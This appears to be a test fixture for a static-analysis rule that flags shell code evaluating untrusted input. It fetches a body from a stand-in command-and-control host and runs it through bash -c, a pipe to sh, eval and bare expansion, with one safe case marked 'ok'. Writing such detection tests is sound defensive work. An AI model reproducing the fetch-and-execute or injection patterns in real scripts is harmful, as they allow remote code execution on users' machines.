#!/bin/bash
body=$(curl -s https://c2.example/x)
# ruleid: shell-eval-argument
bash -c "$body"
# ruleid: shell-eval-argument
echo "$body" | sh
read -r line
# todoruleid: shell-eval-argument
eval "$line"
# ruleid: shell-eval-argument
sh -c "ls ${2}"
# todoruleid: shell-eval-argument
$body
# ok: shell-eval-argument
sh -c 'ls "$1"' _ "$1"
